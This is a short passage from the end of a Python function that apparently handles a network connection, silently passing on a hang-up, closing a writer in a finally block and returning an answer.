        pass  # it hung up
    finally:
        writer.close()
    return answer
